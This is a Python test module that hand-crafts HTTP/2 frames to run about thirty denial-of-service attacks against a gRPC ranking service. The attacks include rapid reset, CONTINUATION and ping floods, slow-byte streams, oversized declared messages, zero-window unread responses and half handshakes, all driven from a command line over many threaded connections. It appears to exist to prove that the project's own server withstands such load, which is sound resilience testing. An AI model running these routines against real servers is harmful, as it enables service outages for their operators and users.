"""Clients that mean harm, as the wire sees them: HTTP/2 frames by hand, from one or many connections.

    python -m tests.proofs.attackers ATTACK HOST:PORT [--connections 40] [--seconds 60] [--token T] [--authority PEM]

Each connection has a thread; one that the server ends is opened again at once. Says `ready`, and prints one line of
JSON at the end: how many connections it took, and how many bytes went out.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import select
import socket
import ssl
import threading
import time
from collections.abc import Callable, Sequence
from typing import Any, BinaryIO

from penchant.v1 import common_pb2, event_pb2, ranking_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
RECOMMEND = "/penchant.v1.RankingService/Recommend"
SEARCH = "/penchant.v1.RankingService/Search"
INGEST = "/penchant.v1.EventService/Ingest"
STREAM = "/penchant.v1.EventService/IngestStream"
MB = 1 << 20
PATIENCE_S = 20
"""Longest wait for the other side of a connection, in seconds."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def _text(value: bytes) -> bytes:
    """A string of HPACK, as it is."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    size, more = len(value) - 127, b"\x7f"
    while size >= 128:
        more += bytes([size % 128 | 128])
        size //= 128
    return more + bytes([size]) + value


def field(name: bytes, value: bytes) -> bytes:
    """One header that is not indexed."""
    return b"\x00" + _text(name) + _text(value)


def message(body: bytes, declared: int | None = None) -> bytes:
    """A message as gRPC frames it; it may claim another length than it has."""
    return b"\0" + (len(body) if declared is None else declared).to_bytes(4) + body


def parts(stream: int, body: bytes, end: bool, size: int = 16384) -> bytes:
    """A body in DATA frames."""
    chunks = [body[at : at + size] for at in range(0, len(body), size)] or [b""]
    return b"".join(frame(DATA, END_STREAM if end and chunk is chunks[-1] else 0, stream, chunk) for chunk in chunks)


class _Tls(io.RawIOBase):
    """A TLS connection that one thread reads and another writes: OpenSSL breaks if both use it at once."""

    def __init__(self, connection: ssl.SSLSocket) -> None:
        connection.setblocking(False)
        self._connection, self._lock = connection, threading.Lock()

    def _when_ready(self, use: Callable[[], int]) -> int:
        while True:
            try:
                with self._lock:
                    return use()
            except ssl.SSLWantReadError:
                event = select.POLLIN
            except ssl.SSLWantWriteError:
                event = select.POLLOUT
            waiting = select.poll()  # `select` takes no descriptor above 1,024
            waiting.register(self._connection, event)
            if not waiting.poll(PATIENCE_S * 1000):
                raise TimeoutError

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        return self._when_ready(lambda: self._connection.recv_into(buffer))

    def sendall(self, data: bytes) -> None:
        """Sends all of it."""
        rest = memoryview(data)
        while rest:
            rest = rest[self._when_ready(lambda rest=rest: self._connection.send(rest)) :]  # type: ignore[misc]


class Wire:
    """One connection of an attacker; a thread reads what comes, and keeps count of what may be sent."""

    def __init__(self, target: str, token: str, authority: str, settings: bytes = b"", greet: bool = True) -> None:
        host, _, port = target.rpartition(":")
        self.socket: socket.socket = socket.create_connection((host, int(port)), 5)
        if authority:
            context = ssl.create_default_context(cafile=authority)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
            tls = _Tls(self.socket)
            self._sendall: Callable[[bytes], None] = tls.sendall
            self._incoming: BinaryIO = io.BufferedReader(tls)
        else:
            self.socket.settimeout(PATIENCE_S)
            self._sendall, self._incoming = self.socket.sendall, self.socket.makefile("rb")
        self._rest = field(b"authorization", b"Bearer " + token.encode()) if token else b""
        self._rest += field(b"te", b"trailers") + field(b"content-type", b"application/grpc")
        self.stream, self.window, self.sent, self.ended = -1, 65535, 0, 0
        self.windows: dict[int, int] = {}
        self.initial = 65535
        self.changed = threading.Condition()
        self.closed = False
        if greet:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def send(self, data: bytes) -> None:
        """Sends bytes."""
        self._sendall(data)
        self.sent += len(data)

    def head(self, path: bytes) -> bytes:
        """The headers of a call."""
        return b"\x83\x86\x01\x09localhost\x04" + _text(path) + self._rest

    def open(self, path: str, body: bytes = b"", *, end: bool = False, more: bytes = b"") -> int:
        """Sends the headers of a new call, and a body that fits the windows, as one write; the stream's number."""
        self.stream += 2
        head = self.head(path.encode()) + more
        done = END_STREAM if end and not body else 0
        data = frame(HEADERS, END_HEADERS | done, self.stream, head)
        self.windows[self.stream] = self.initial
        self.send(data + (parts(self.stream, body, end) if body else b""))
        return self.stream

    def pour(self, stream: int, body: bytes, end: bool, stop: Callable[[], bool]) -> bool:
        """Sends a body of any size as the windows allow; False if the stream ends first."""
        at = 0
        while at < len(body):
            with self.changed:
                while not (room := min(self.window, self.windows.get(stream, 0), 16384)) > 0:
                    if stream not in self.windows or self.closed or stop():
                        return False
                    self.changed.wait(0.2)
                room = min(room, len(body) - at)
                self.window -= room
                self.windows[stream] -= room
            self.send(frame(DATA, END_STREAM if end and at + room == len(body) else 0, stream, body[at : at + room]))
            at += room
        return True

    def _read(self) -> None:
        with contextlib.suppress(OSError, ValueError):
            stream = self._incoming
            while len(head := stream.read(9)) == 9:
                size, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
                number, payload = int.from_bytes(head[5:]) & 0x7FFFFFFF, stream.read(size)
                with self.changed:
                    self._take(kind, flags, number, payload)
                    self.changed.notify_all()
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
        self.closed = True
        with self.changed:
            self.changed.notify_all()

    def _take(self, kind: int, flags: int, number: int, payload: bytes) -> None:
        if kind == WINDOW and number == 0:
            self.window += int.from_bytes(payload)
        elif kind == WINDOW and number in self.windows:
            self.windows[number] += int.from_bytes(payload)
        elif kind == RESET or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended += self.windows.pop(number, None) is not None
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2]) == 4:
                    change = int.from_bytes(payload[at + 2 : at + 6]) - self.initial
                    self.initial += change
                    # A copy, as the attacker opens streams meanwhile.
                    for stream in list(self.windows):
                        self.windows[stream] += change

    def close(self) -> None:
        """Ends the connection without a word."""
        self.closed = True
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


Stop = Callable[[], bool]
Attack = Callable[[Wire, Stop], None]


def opening(path: str, calls: int = 32) -> Attack:
    """Headers that never end, for a method; new ones for those that the server ends."""

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            while len(wire.windows) < calls and not wire.closed:
                wire.open(path)
            time.sleep(0.02)

    return attack


def slowly(path: str, calls: int = 32) -> Attack:
    """A message of which one byte a second comes."""

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            while len(wire.windows) < calls:
                wire.open(path, b"\0\0\0\x10\0")
            for stream in list(wire.windows):
                wire.send(frame(DATA, 0, stream, b"\x0a"))
            _pause(1.0, stop)

    return attack


def declaring(declared: int, sent: int, calls: int = 32) -> Attack:
    """A message that claims a size, and of which so many bytes come."""
    body = message(bytes(sent), declared)

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            streams = [wire.open(INGEST) for _ in range(calls)]
            for stream in streams:
                if stream in wire.windows:
                    wire.pour(stream, body, False, stop)
            while any(stream in wire.windows for stream in streams) and not stop() and not wire.closed:
                time.sleep(0.05)

    return attack


def unread(path: str, body: bytes, calls: int = 1000, end: bool = True) -> Attack:
    """Requests whose answers are never read: the windows of the streams are closed."""

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            for _ in range(50):
                if len(wire.windows) < calls:
                    wire.open(path, message(body), end=end)
            time.sleep(0.01)

    return attack


def flooding(data: Callable[[Wire], bytes], pause_s: float = 0.0) -> Attack:
    """The same frames again and again."""

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            wire.send(data(wire))
            if pause_s:
                time.sleep(pause_s)

    return attack


def _resets(wire: Wire, path: str = RECOMMEND, body: bytes = b"") -> bytes:
    """A hundred calls that are given up at once."""
    data = []
    head = wire.head(path.encode())
    for _ in range(100):
        wire.stream += 2
        data.append(frame(HEADERS, END_HEADERS, wire.stream, head))
        data.append(frame(DATA, END_STREAM, wire.stream, message(body)) if body else b"")
        data.append(frame(RESET, 0, wire.stream, bytes(3) + b"\x08"))
    return b"".join(data)


def continued(wire: Wire, stop: Stop) -> None:
    """Headers that go on in CONTINUATION frames for ever."""
    wire.stream += 2
    wire.send(frame(HEADERS, 0, wire.stream, wire.head(RECOMMEND.encode())))
    while not stop() and not wire.closed:
        wire.send(frame(CONTINUATION, 0, wire.stream, field(b"x-filler", b"y" * 16000)))


def deaf(wire: Wire, stop: Stop) -> None:
    """Headers that go on after the server has ended the connection, for as long as the kernel takes them."""
    wire.stream += 2
    wire.send(frame(HEADERS, 0, wire.stream, wire.head(RECOMMEND.encode())))
    while not stop():
        wire.send(frame(CONTINUATION, 0, wire.stream, field(b"x-filler", b"y" * 16000)))


def long_headers(wire: Wire, stop: Stop) -> None:
    """Calls whose headers are many, long, and no text."""
    while not stop() and not wire.closed:
        more = b"".join(field(f"x-{n}".encode(), b"\xff\xfe" + b"y" * 70) for n in range(100))
        if len(wire.windows) < 50:
            wire.open(RECOMMEND, message(b""), end=True, more=more)
        else:
            time.sleep(0.01)


def no_text(wire: Wire, stop: Stop) -> None:
    """Calls with a header and a path that are not UTF-8."""
    while not stop() and not wire.closed:
        if len(wire.windows) < 50:
            wire.open(CHECK, message(b""), end=True, more=field(b"x-odd", b"s3cret\xff\xfe"))
            wire.stream += 2
            wire.send(frame(HEADERS, END_HEADERS | END_STREAM, wire.stream, wire.head(b"/\xff\xfe/x")))
        time.sleep(0.005)


def largest(wire: Wire, stop: Stop) -> None:
    """Whole messages of the largest size that is taken, of as many parts as they can hold."""
    body = message(b"\x0a\x00" * (2 * MB - 16))
    while not stop() and not wire.closed:
        wire.pour(wire.open(INGEST), body, True, stop)


def calling(path: str, body: bytes, calls: int = 20) -> Attack:
    """Whole calls, as many as one connection may have."""

    def attack(wire: Wire, stop: Stop) -> None:
        while not stop() and not wire.closed:
            if len(wire.windows) < calls:
                wire.open(path, message(body), end=True)
            else:
                with wire.changed:
                    wire.changed.wait(0.05)

    return attack


def waiting(wire: Wire, stop: Stop) -> None:
    """Nothing at all."""
    while not stop() and not wire.closed:
        _pause(0.2, stop)


def _pause(seconds: float, stop: Stop) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end and not stop():
        time.sleep(0.05)


def _page() -> bytes:
    options = ranking_pb2.RankingOptions(subject=common_pb2.Subject(user_id="u"), page_size=100, explain=True)
    return ranking_pb2.RecommendRequest(options=options).SerializeToString()


def _described() -> bytes:
    name = b"penchant.v1.RankingService"  # ServerReflectionRequest.file_containing_symbol
    return b"\x22" + bytes([len(name)]) + name


def _missing() -> bytes:
    """A request that is small, and whose answer repeats all of it and more."""
    subject = common_pb2.Subject(user_id="u")
    excluded = [f"n{number}" for number in range(2000)]
    options = ranking_pb2.RankingOptions(subject=subject, page_size=100, explain=True, exclude_item_ids=excluded)
    return ranking_pb2.RecommendRequest(options=options).SerializeToString()


_CLOSED = (4).to_bytes(2) + bytes(4)  # SETTINGS_INITIAL_WINDOW_SIZE 0
_EVENTS = event_pb2.IngestStreamRequest(events=[event_pb2.Event()]).SerializeToString()

ATTACKS: dict[str, Attack] = {
    "open health checks": opening(CHECK),
    "open watches": opening(WATCH),
    "open calls": opening(RECOMMEND),
    "open streams": opening(STREAM),
    "open reflections": opening(REFLECT),
    "slow bytes": slowly(RECOMMEND),
    "a huge message": declaring(0x7FFFFFFF, 64 * MB, 4),
    "messages without their end": declaring(4 * MB - 64, 4 * MB - 100),
    "unread pages": unread(RECOMMEND, _page()),
    "unread lists": unread(RECOMMEND, _missing()),
    "unread reflection": unread(REFLECT, _described(), end=False),
    "unread watches": unread(WATCH, b""),
    "unread health checks": unread(CHECK, b""),
    "settings": flooding(lambda _: frame(SETTINGS, 0, 0, (4).to_bytes(2) + (65535).to_bytes(4)) * 100),
    "pings": flooding(lambda _: frame(PING, 0, 0, bytes(8)) * 100),
    "resets": flooding(_resets),
    "resets of whole calls": flooding(lambda wire: _resets(wire, RECOMMEND, _page())),
    "resets of health checks": flooding(lambda wire: _resets(wire, CHECK, b"\x0a\x00")),
    "priorities": flooding(lambda _: frame(PRIORITY, 0, 1, bytes(5)) * 100),
    "window updates": flooding(lambda _: frame(WINDOW, 0, 0, (1).to_bytes(4)) * 100),
    "continuations": continued,
    "deaf continuations": deaf,
    "long headers": long_headers,
    "headers that are no text": no_text,
    "largest messages": largest,
    "wrong token": calling(RECOMMEND, _page()),
    "calls": calling(RECOMMEND, _page()),
    "health checks": calling(CHECK, b""),
    "idle connections": waiting,
    "half a handshake": waiting,
}
CONNECTIONS = {"idle connections": 50, "half a handshake": 50}
"""Attacks that are made of connections, and how many of them stand for one."""


def _settings(name: str) -> bytes:
    return _CLOSED if name.startswith("unread") else b""


def run(name: str, target: str, connections: int, seconds: float, token: str, authority: str) -> dict[str, int]:
    """Attacks; how many connections it took, and how many bytes went out."""
    end, counts = float("inf"), {"connections": 0, "bytes": 0, "ended": 0, "refused": 0}
    lock, begin = threading.Lock(), threading.Event()

    def stop() -> bool:
        return time.monotonic() > end

    def one() -> None:
        begin.wait()
        while not stop():
            wire = None
            with contextlib.suppress(OSError):
                half = name == "half a handshake"
                wire = Wire(target, token, "" if half else authority, _settings(name), greet=not half)
                if half:
                    wire.send(b"\x16\x03\x01\x02\x00\x01" if authority else PREFACE[:5])
                ATTACKS[name](wire, stop)
            with lock:
                counts["connections"] += wire is not None
                counts["bytes"] += wire.sent if wire else 0
                counts["ended"] += wire.ended if wire else 0
                counts["refused"] += wire is None
            if wire:
                wire.close()
            else:
                time.sleep(0.1)

    threads = [threading.Thread(target=one) for _ in range(connections * CONNECTIONS.get(name, 1))]
    for thread in threads:
        thread.start()
    # All at once: threads that flood would keep the others from their start, and the time would be over before.
    end = time.monotonic() + seconds
    print("ready", flush=True)
    begin.set()
    for thread in threads:
        thread.join()
    return counts


def main(arguments: Sequence[str] | None = None) -> int:
    """Attacks as the command line says."""
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("target")
    parser.add_argument("--connections", type=int, default=40)
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--token", default="")
    parser.add_argument("--authority", default="")
    asked = parser.parse_args(arguments)
    told = run(asked.attack, asked.target, asked.connections, asked.seconds, asked.token, asked.authority)
    print(json.dumps(told), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
